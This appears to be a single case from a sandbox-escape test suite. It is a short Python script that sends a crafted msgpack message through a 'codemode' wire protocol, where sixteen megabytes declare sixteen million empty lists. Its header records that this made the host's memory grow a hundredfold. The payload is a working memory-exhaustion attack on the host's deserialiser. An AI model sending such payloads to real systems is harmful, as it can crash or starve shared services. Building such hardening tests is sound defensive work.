# 605 wire-containers
# tries: a result of sixteen million empty lists in sixteen megabytes
# escaped: the host's memory grows a hundredfold
# walls: language=- os=- host=must
# mode: raw
import os
from codemode import wire
import msgspec
inner = b'\xdd' + (16_000_000).to_bytes(4, 'big') + b'\x90' * 16_000_000
data = wire.pack(wire.Done(msgspec.Raw(inner)))
while data:
    data = data[os.write(3, data):]
